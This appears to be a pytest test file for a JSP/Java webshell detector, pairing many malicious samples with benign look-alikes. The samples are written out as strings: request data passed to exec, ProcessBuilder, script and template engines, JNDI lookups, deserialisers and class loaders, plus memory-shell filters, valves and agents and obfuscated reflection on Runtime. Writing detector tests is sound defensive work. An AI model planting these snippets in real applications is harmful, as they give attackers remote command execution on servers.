"""Near variants of the JSP/Java behaviours the reader knows: each way of getting request bytes, each
spelling of a sink (exec, script engines, class definition, reflection with built names, JNDI, method
handles, deserialisers, file writes, JDBC consoles), so that a shell is caught by what it does and not
by the way one sample spelled it. Benign look-alikes (an upload servlet, a JDBC DAO, an admin page with
a fixed command, a reflective plugin loader) stay below the threshold. Every sample is written here."""

import pytest

from tests.unit import variant_asserts


def hits(text, name="x.jsp"):
    return variant_asserts.hits(text, name)


def assert_shell(text, name="x.jsp"):
    return variant_asserts.assert_shell(text, name)


def assert_benign(text, name="x.jsp"):
    variant_asserts.assert_benign(text, name)


# Ways a page gets request bytes or text, as an expression of type String.
SOURCES = {
    "param": 'request.getParameter("c")',
    "header": 'request.getHeader("X-Token")',
    "query": 'java.net.URLDecoder.decode(request.getQueryString(), "UTF-8")',
    "cookie": 'request.getCookies()[0].getValue()',
    "values": 'request.getParameterValues("c")[0]',
    "map": '((String[]) request.getParameterMap().get("c"))[0]',
    "reader": 'request.getReader().readLine()',
    "stream": 'new String(request.getInputStream().readAllBytes())',
    "scanner": 'new java.util.Scanner(request.getInputStream()).useDelimiter("\\\\A").next()',
    "part": 'new String(request.getPart("f").getInputStream().readAllBytes())',
    "renamed": '((javax.servlet.http.HttpServletRequest) pageContext.getRequest()).getParameter("c")',
    "base64": 'new String(java.util.Base64.getDecoder().decode(request.getParameter("c")))',
    "attr": 'String.valueOf(request.getParameter("c"))',
}

# Sinks that run a String of code or a command.
SINKS = {
    "exec": "Runtime.getRuntime().exec(x);",
    "exec-array": 'Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", x});',
    "exec-split": 'Runtime.getRuntime().exec(x.split(" "));',
    "rt-var": "Runtime rt = Runtime.getRuntime(); Process p = rt.exec(x);",
    "pb": 'new ProcessBuilder("/bin/sh", "-c", x).start();',
    "pb-list": 'java.util.List<String> l = new java.util.ArrayList<String>(); l.add("sh"); l.add("-c"); l.add(x);'
               ' ProcessBuilder pb = new ProcessBuilder(l); pb.redirectErrorStream(true); Process p = pb.start();',
    "pb-command": 'ProcessBuilder pb = new ProcessBuilder(); pb.command("cmd.exe", "/c", x); pb.start();',
    "pb-array": 'String[] a = {"bash", "-c", x}; Process p = new ProcessBuilder(a).start();',
    "script": 'new javax.script.ScriptEngineManager().getEngineByName("js").eval(x);',
    "script-ext": 'javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByExtension("js");'
                  ' e.eval(x);',
    "el": "new javax.el.ELProcessor().eval(x);",
    "spel": "new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(x).getValue();",
    "groovy": "new groovy.lang.GroovyShell().evaluate(x);",
    "ognl": "ognl.Ognl.getValue(x, null);",
    "reflect-built": 'Class c = Class.forName("java.lang." + "Run" + "time");'
                     ' Object r = c.getMethod("get" + "Runtime").invoke(null);'
                     ' c.getMethod("ex" + "ec", String.class).invoke(r, x);',
    "reflect-class": 'java.lang.reflect.Method m = Runtime.class.getMethod("exec", String.class);'
                     ' m.invoke(Runtime.getRuntime(), x);',
    "method-handle": 'java.lang.invoke.MethodHandle h = java.lang.invoke.MethodHandles.lookup().findVirtual('
                     'Runtime.class, "exec", java.lang.invoke.MethodType.methodType(Process.class, String.class));'
                     ' h.invoke(Runtime.getRuntime(), x);',
    "jndi": "new javax.naming.InitialContext().lookup(x);",
    "xmldecoder": "new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(x.getBytes())).readObject();",
    "yaml": "new org.yaml.snakeyaml.Yaml().load(x);",
    "ois": "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream("
           "java.util.Base64.getDecoder().decode(x))).readObject();",
    "jshell": "jdk.jshell.JShell.create().eval(x);",
}


@pytest.mark.parametrize("src", sorted(SOURCES))
def test_every_source_reaches_exec(src):
    assert_shell(f"<% String x = {SOURCES[src]}; Runtime.getRuntime().exec(x); %>")


@pytest.mark.parametrize("sink", sorted(SINKS))
def test_every_sink_spelling_with_a_parameter(sink):
    assert_shell(f'<%@ page import="java.util.*" %><% String x = request.getParameter("c"); {SINKS[sink]} %>')


@pytest.mark.parametrize("sink", ["exec", "pb", "script", "reflect-built", "jndi"])
def test_sinks_with_a_header_source_in_a_servlet(sink):
    java = ("package x; import javax.servlet.http.*; public class S extends HttpServlet {"
            " protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws Exception {"
            f' String x = req.getHeader("X-C"); {SINKS[sink]} }} }}')
    assert_shell(java, "S.java")


def test_jspx_form():
    assert_shell('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>'
                 'String x = request.getParameter("c"); new ProcessBuilder("sh", "-c", x).start();'
                 "</jsp:scriptlet></jsp:root>", "x.jspx")


# --- class loading from request bytes --------------------------------------------------------

LOADERS = {
    "subclass": 'class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) {'
                " return super.defineClass(b, 0, b.length); } }",
    "secure": "class U extends java.security.SecureClassLoader { public Class g(byte[] b) {"
              " return defineClass(null, b, 0, b.length); } }",
}


@pytest.mark.parametrize("loader", sorted(LOADERS))
@pytest.mark.parametrize("src", ["param", "reader", "stream"])
def test_class_defined_from_request_bytes(loader, src):
    body = {"param": 'java.util.Base64.getDecoder().decode(request.getParameter("p"))',
            "reader": "new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())",
            "stream": "request.getInputStream().readAllBytes()"}[src]
    assert_shell(f"<%! {LOADERS[loader]} %><% new U(this.getClass().getClassLoader()).g({body}).newInstance(); %>")


def test_url_class_loader_from_request():
    assert_shell('<% java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{'
                 'new java.net.URL(request.getParameter("u"))}); l.loadClass(request.getParameter("c"))'
                 '.newInstance(); %>')


def test_reflective_define_class():
    assert_shell('<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));'
                 ' java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define" + "Class",'
                 ' byte[].class, int.class, int.class); m.setAccessible(true);'
                 ' ((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length))'
                 '.newInstance(); %>')


def test_unsafe_define_anonymous_class():
    assert_shell('<% java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");'
                 ' f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null);'
                 ' byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));'
                 ' u.defineAnonymousClass(String.class, b, null).newInstance(); %>')


def test_aes_loader_behinder_shape():
    assert_shell('<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{'
                 "U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%"
                 'if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);'
                 'Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
                 "new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode("
                 "request.getReader().readLine()))).newInstance().equals(pageContext);}%>")


# --- file writes and consoles ------------------------------------------------------------------

WRITES = {
    "fos": 'java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath("/") +'
           ' request.getParameter("f")); o.write(request.getParameter("d").getBytes()); o.close();',
    "writer": 'java.io.FileWriter w = new java.io.FileWriter(request.getParameter("f"));'
              ' w.write(request.getParameter("d")); w.close();',
    "nio": 'java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("f")),'
           ' java.util.Base64.getDecoder().decode(request.getParameter("d")));',
    "printwriter": 'java.io.PrintWriter w = new java.io.PrintWriter(request.getParameter("f"));'
                   ' w.println(request.getParameter("d")); w.close();',
}


@pytest.mark.parametrize("w", sorted(WRITES))
def test_request_data_written_to_a_request_path(w):
    assert_shell(f"<% {WRITES[w]} %>")


def test_part_written_to_a_request_path():
    assert_shell('<% javax.servlet.http.Part p = request.getPart("file");'
                 ' p.write(application.getRealPath("/") + request.getParameter("path")); %>')


def test_jdbc_console():
    assert_shell('<%@ page import="java.sql.*" %><% Class.forName(request.getParameter("driver"));'
                 ' Connection c = DriverManager.getConnection(request.getParameter("url"),'
                 ' request.getParameter("user"), request.getParameter("pass"));'
                 ' ResultSet rs = c.createStatement().executeQuery(request.getParameter("sql"));'
                 ' while (rs.next()) out.println(rs.getString(1)); %>')


# --- benign look-alikes --------------------------------------------------------------------------

def test_benign_upload_servlet():
    assert_benign("""package org.example.web;
import java.io.*; import java.util.UUID; import javax.servlet.http.*;
public class UploadServlet extends HttpServlet {
  protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException, javax.servlet.ServletException {
    Part part = req.getPart("file");
    String name = part.getSubmittedFileName();
    if (!name.toLowerCase().endsWith(".png")) { resp.sendError(400); return; }
    File dir = new File(getServletContext().getRealPath("/uploads"));
    File out = new File(dir, UUID.randomUUID() + ".png");
    try (InputStream in = part.getInputStream(); OutputStream o = new FileOutputStream(out)) { in.transferTo(o); }
    resp.getWriter().println("ok " + out.getName());
  }
}""", "UploadServlet.java")


def test_benign_jdbc_dao():
    assert_benign("""package org.example.dao;
import java.sql.*; import javax.servlet.http.*;
public class OwnerDao {
  private final DataSource ds;
  public Owner find(HttpServletRequest request) throws SQLException {
    String id = request.getParameter("id");
    try (Connection c = ds.getConnection();
         PreparedStatement ps = c.prepareStatement("SELECT * FROM owners WHERE id = ?")) {
      ps.setString(1, id);
      ResultSet rs = ps.executeQuery();
      return rs.next() ? new Owner(rs.getString("name")) : null;
    }
  }
}""", "OwnerDao.java")


def test_benign_admin_page_fixed_command():
    assert_benign('<%@ page import="java.io.*" %><% String who = request.getParameter("who");'
                  ' Process p = Runtime.getRuntime().exec(new String[]{"uptime"});'
                  ' BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));'
                  ' out.println("hello " + org.owasp.encoder.Encode.forHtml(who) + ": " + r.readLine()); %>')


def test_benign_page_with_el_and_params():
    assert_benign('<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %><html><body>'
                  '<c:out value="${param.name}"/> ${fn:escapeXml(param.q)} <% String q = request.getParameter("q");'
                  ' session.setAttribute("q", q); request.getRequestDispatcher("/search.jsp").forward(request,'
                  " response); %></body></html>")


def test_benign_plugin_loader_by_configured_name():
    assert_benign("""package org.example;
public class Plugins {
  public Object load(javax.servlet.ServletConfig cfg) throws Exception {
    String name = cfg.getInitParameter("plugin");
    return Class.forName(name).getDeclaredConstructor().newInstance();
  }
}""", "Plugins.java")


def test_benign_jndi_datasource():
    assert_benign('<% javax.naming.Context ctx = new javax.naming.InitialContext();'
                  ' javax.sql.DataSource ds = (javax.sql.DataSource) ctx.lookup("java:comp/env/jdbc/app");'
                  ' String id = request.getParameter("id"); %>')


def test_benign_upload_page_saving_the_part_under_its_own_name():
    assert_benign('<% javax.servlet.http.Part part = request.getPart("file");'
                  ' String dir = application.getRealPath("/uploads");'
                  ' part.write(dir + java.io.File.separator + part.getSubmittedFileName());'
                  ' out.write("saved " + request.getParameter("note")); %>')


def test_jndi_lookup_of_a_request_name_on_a_variable_context():
    assert_shell('<% javax.naming.Context ctx = new javax.naming.InitialContext();'
                 ' ctx.lookup(request.getParameter("n")); %>')


def test_benign_lookup_of_a_request_name_in_the_environment_context():
    # a JNDI browser over java:comp/env (names there resolve locally, never to a remote class)
    assert_benign('<% String n = request.getParameter("jndiName");'
                  ' javax.naming.Context init = new javax.naming.InitialContext();'
                  ' javax.naming.Context env = (javax.naming.Context) init.lookup("java:comp/env");'
                  ' Object o = env.lookup(n); out.println(o); %>')


# --- taint through lambdas, scope attributes, generic loops and reflection ------------------------

MORE = {
    "lambda": 'java.util.Optional.ofNullable(request.getParameter("c")).ifPresent(c -> { try {'
              " Runtime.getRuntime().exec(c); } catch (Exception e) {} });",
    "lambda-pair": 'request.getParameterMap().forEach((k, v) -> { try { Runtime.getRuntime().exec(v[0]); }'
                   " catch (Exception e) {} });",
    "thread": 'String c = request.getParameter("c"); new Thread(() -> { try { Runtime.getRuntime().exec(c); }'
              " catch (Exception e) {} }).start();",
    "session-attr": 'session.setAttribute("c", request.getParameter("c"));'
                    ' Runtime.getRuntime().exec((String) session.getAttribute("c"));',
    "app-attr": 'String v = request.getHeader("X-C"); application.setAttribute("k", v);'
                ' new ProcessBuilder("sh", "-c", (String) application.getAttribute("k")).start();',
    "map-foreach": "for (java.util.Map.Entry<String, String[]> en : request.getParameterMap().entrySet()) {"
                   " Runtime.getRuntime().exec(en.getValue()[0]); }",
    "pb-reflect": 'Object pb = Class.forName("java.lang.ProcessBuilder").getConstructor(String[].class)'
                  '.newInstance(new Object[]{new String[]{"sh", "-c", request.getParameter("c")}});'
                  ' pb.getClass().getMethod("start").invoke(pb);',
    "engine-reflect": 'Object m = Class.forName("javax.script.ScriptEngineManager").newInstance();'
                      ' Object e = m.getClass().getMethod("getEngineByName", String.class).invoke(m, "js");'
                      ' e.getClass().getMethod("eval", String.class).invoke(e, request.getParameter("c"));',
    "processimpl": 'java.lang.reflect.Method m = Class.forName("java.lang.ProcessImpl").getDeclaredMethod("start",'
                   " String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class,"
                   ' boolean.class); m.setAccessible(true); m.invoke(null, new String[]{request.getParameter("c")},'
                   " null, null, null, false);",
    "bcel": 'new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("$$BCEL$$" +'
            ' request.getParameter("c")).newInstance();',
    "anonymous-loader": 'byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("c"));'
                        " new ClassLoader() { Class<?> d(byte[] x) { return defineClass(null, x, 0, x.length); } }"
                        ".d(b).newInstance();",
    "cast-context": 'String n = request.getParameter("n");'
                    " ((javax.naming.Context) new javax.naming.InitialContext()).lookup(n);",
}


@pytest.mark.parametrize("case", sorted(MORE))
def test_more_flows(case):
    assert_shell(f"<% {MORE[case]} %>")


@pytest.mark.parametrize("el", [
    '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}',
    '${pageContext.servletContext.classLoader.loadClass("java.lang.Runtime").getMethod("getRuntime")'
    '.invoke(null).exec(param["c"])}',
])
def test_el_reaching_runtime(el):
    assert_shell(f"<html>{el}</html>")


def test_benign_session_attribute_shown_back():
    assert_benign('<% session.setAttribute("name", request.getParameter("name"));'
                  ' out.println(org.owasp.encoder.Encode.forHtml((String) session.getAttribute("name")));'
                  ' Process p = Runtime.getRuntime().exec("date"); %>')


@pytest.mark.parametrize("src", ["request.getRequestURI().substring(5)", "request.getPathInfo()",
                                 "java.net.URLDecoder.decode(request.getRequestURL().toString(), \"UTF-8\")"])
def test_the_requested_path_is_request_data_in_a_page(src):
    assert_shell(f"<% String c = {src}; Runtime.getRuntime().exec(c); %>")


def test_benign_servlet_running_the_script_its_path_names():
    # what Tomcat's CGI servlet does for a living: in a class the routed path is the container's
    assert_benign("""package org.example;
public class Cgi extends javax.servlet.http.HttpServlet {
  protected void doGet(javax.servlet.http.HttpServletRequest req, javax.servlet.http.HttpServletResponse resp)
      throws java.io.IOException {
    String script = getServletContext().getRealPath(req.getPathInfo());
    if (!script.startsWith(getServletContext().getRealPath("/WEB-INF/cgi"))) { resp.sendError(404); return; }
    Process p = Runtime.getRuntime().exec(new String[] {script});
  }
}""", "Cgi.java")


# --- classes: memory shells, controllers, agents -------------------------------------------------------

CLASSES = {
    "filter": """package x;
import javax.servlet.*; import javax.servlet.http.*;
public class Evil implements Filter {
  public void init(FilterConfig c) {}
  public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain)
      throws java.io.IOException, ServletException {
    String cmd = ((HttpServletRequest) request).getHeader("X-Cmd");
    if (cmd != null) { Process p = new ProcessBuilder("/bin/sh", "-c", cmd).start(); return; }
    chain.doFilter(request, response);
  }
  public void destroy() {}
}""",
    "listener": """package x;
import javax.servlet.*; import javax.servlet.http.*;
public class L implements ServletRequestListener {
  public void requestInitialized(ServletRequestEvent sre) {
    HttpServletRequest r = (HttpServletRequest) sre.getServletRequest();
    try { if (r.getParameter("c") != null) Runtime.getRuntime().exec(r.getParameter("c")); } catch (Exception e) {}
  }
  public void requestDestroyed(ServletRequestEvent sre) {}
}""",
    "valve": """package x;
public class V extends org.apache.catalina.valves.ValveBase {
  public void invoke(org.apache.catalina.connector.Request request, org.apache.catalina.connector.Response response)
      throws java.io.IOException, javax.servlet.ServletException {
    String c = request.getParameter("c");
    if (c != null) Runtime.getRuntime().exec(c); else getNext().invoke(request, response);
  }
}""",
    "spring-param": """package x;
import org.springframework.web.bind.annotation.*;
@RestController public class C {
  @GetMapping("/x") public String x(@RequestParam String cmd) throws Exception {
    return new String(Runtime.getRuntime().exec(cmd).getInputStream().readAllBytes());
  }
}""",
    "spring-body": """package x;
import org.springframework.web.bind.annotation.*;
@RestController public class C {
  @PostMapping("/y") public Object y(@RequestHeader("X-C") String c, @RequestBody String body) throws Exception {
    return new javax.script.ScriptEngineManager().getEngineByName("js").eval(body);
  }
}""",
    "jaxrs": """package x;
import javax.ws.rs.*;
@Path("/r") public class R {
  @GET public String r(@QueryParam("c") String c) throws Exception { return helper(c); }
  private String helper(String s) throws Exception { Runtime.getRuntime().exec(s); return "ok"; }
}""",
    "javassist-agent": """package x;
import java.lang.instrument.*; import javassist.*;
public class Agent implements ClassFileTransformer {
  public byte[] transform(ClassLoader l, String name, Class<?> c, java.security.ProtectionDomain d, byte[] b) {
    try {
      CtClass cc = ClassPool.getDefault().get("org.apache.catalina.core.ApplicationFilterChain");
      CtMethod m = cc.getDeclaredMethod("internalDoFilter");
      m.insertBefore("javax.servlet.http.HttpServletRequest req = (javax.servlet.http.HttpServletRequest) $1;"
          + " String cmd = req.getParameter(\\"cmd\\"); if (cmd != null) { Runtime.getRuntime().exec(cmd); }");
      return cc.toBytecode();
    } catch (Exception e) { return null; }
  }
}""",
}


@pytest.mark.parametrize("case", sorted(CLASSES))
def test_shell_classes(case):
    assert_shell(CLASSES[case], "Shell.java")


def test_benign_spring_controller_with_request_params():
    assert_benign("""package org.example;
import org.springframework.web.bind.annotation.*;
@RestController public class Owners {
  private final OwnerRepository repo;
  @GetMapping("/owners") public java.util.List<Owner> find(@RequestParam String lastName, @RequestHeader("X-Tenant") String t) {
    return repo.findByLastName(lastName);
  }
  @PostMapping("/owners/{id}/photo") public void photo(@PathVariable int id, @RequestBody byte[] data) throws Exception {
    java.nio.file.Files.write(java.nio.file.Paths.get("/srv/photos", id + ".jpg"), data);
  }
  @GetMapping("/report") public String report(@RequestParam String format) throws Exception {
    Process p = new ProcessBuilder("/usr/bin/make-report", "--format=pdf").start();
    return format;
  }
}""", "Owners.java")


ENGINES = {
    "nashorn-inner": 'javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("nashorn");'
                     ' e.put("request", request); e.eval("var c = request.getParameter(\'c\');'
                     ' java.lang.Runtime.getRuntime().exec(c);");',
    "groovy-class": 'Class c = new groovy.lang.GroovyClassLoader().parseClass(request.getParameter("c")); c.newInstance();',
    "rhino": "org.mozilla.javascript.Context cx = org.mozilla.javascript.Context.enter();"
             ' cx.evaluateString(cx.initStandardObjects(), request.getParameter("c"), "s", 1, null);',
    "beanshell": 'new bsh.Interpreter().eval(request.getParameter("c"));',
    "jython": 'new org.python.util.PythonInterpreter().exec(request.getParameter("c"));',
    "velocity": "org.apache.velocity.app.Velocity.evaluate(new org.apache.velocity.VelocityContext(),"
                ' new java.io.StringWriter(), "t", request.getParameter("c"));',
    "freemarker": 'freemarker.template.Template t = new freemarker.template.Template("t",'
                  ' new java.io.StringReader(request.getParameter("c")), new freemarker.template.Configuration());',
    "jexl": "org.apache.commons.jexl3.JexlEngine j = new org.apache.commons.jexl3.JexlBuilder().create();"
            ' j.createScript(request.getParameter("c")).execute(null);',
    "mvel": 'org.mvel2.MVEL.executeExpression(org.mvel2.MVEL.compileExpression(request.getParameter("c")));',
    "xslt": "javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.stream"
            '.StreamSource(new java.io.StringReader(request.getParameter("x"))));',
    "lookup-define": 'java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder()'
                     '.decode(request.getParameter("c")));',
}


@pytest.mark.parametrize("case", sorted(ENGINES))
def test_script_and_template_engines(case):
    assert_shell(f"<% {ENGINES[case]} %>")


_REFLECT = ('<% Class c = Class.forName({name}); Object r = c.getMethod("getRuntime").invoke(null);'
            ' c.getMethod("exec", String.class).invoke(r, request.getParameter("c")); %>')


@pytest.mark.parametrize("name", [
    'new String(javax.xml.bind.DatatypeConverter.parseHexBinary("6a6176612e6c616e672e52756e74696d65"))',
    'String.join("", "ja", "va.lang.Run", "time")',
    'String.format("%s%s", "java.lang.", "Runtime")',
    "new String(new char[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101})",
    'new StringBuilder("emitnuR.gnal.avaj").reverse().toString()',
    '"jaXva.laXng.RuXntime".replace("X", "")',
    'new String(org.apache.commons.codec.binary.Base64.decodeBase64("amF2YS5sYW5nLlJ1bnRpbWU="))',
])
def test_reflective_runtime_with_a_built_class_name(name):
    assert_shell(_REFLECT.format(name=name))


def test_string_concat_and_join_fold():
    from agent.imagegate.webshell import jsp_lex
    from agent.imagegate.webshell.common import Budget, Limits

    b = Budget(Limits())
    for code, want in [('x = string.Concat("a", "b");', "ab"), ('x = String.join("-", "a", "b");', "a-b"),
                       ('x = string.Join("", new string[] { "a", "b" });', "ab")]:
        toks = jsp_lex.fold(jsp_lex.lex(code, b, single_quote_string=False), b)
        assert ("s", want) in toks, toks


def test_constructor_parameter_reaches_a_thread_body():
    assert_shell('<%! class T extends Thread { String k; T(String v) { this.k = v; } public void run() { try {'
                 " Runtime.getRuntime().exec(k); } catch (Exception e) {} } } %><% new T(request.getParameter(\"c\"))"
                 ".start(); %>")


@pytest.mark.parametrize("code", [
    'final String c = request.getParameter("c"); new Thread(new Runnable() { public void run() { try {'
    " Runtime.getRuntime().exec(c); } catch (Exception e) {} } }).start();",
    'java.util.Map<String, String> m = new java.util.HashMap<>(); m.put("c", request.getParameter("c"));'
    ' Runtime.getRuntime().exec(m.get("c"));',
    'String[] a = new String[3]; a[0] = "sh"; a[1] = "-c"; a[2] = request.getParameter("c"); Runtime.getRuntime().exec(a);',
    "java.io.BufferedReader br = request.getReader(); String line, all = \"\"; while ((line = br.readLine()) != null)"
    " all += line; Runtime.getRuntime().exec(all);",
    'for (javax.servlet.http.Cookie ck : request.getCookies()) if (ck.getName().equals("c"))'
    " Runtime.getRuntime().exec(ck.getValue());",
])
def test_taint_through_common_java_constructs(code):
    assert_shell(f"<% {code} %>")


def test_request_proxy_in_a_page():
    h = assert_shell('<% java.io.InputStream in = new java.net.URL(request.getParameter("u")).openStream();'
                     " out.print(new String(in.readAllBytes())); %>")
    assert h.rule == "jsp.request-proxy"


def test_benign_api_call_to_a_fixed_host_in_a_page():
    assert_benign('<% java.io.InputStream in = new java.net.URL("http://api.example.com/q?x=" +'
                  ' java.net.URLEncoder.encode(request.getParameter("u"), "UTF-8")).openStream();'
                  " out.print(new String(in.readAllBytes())); %>")
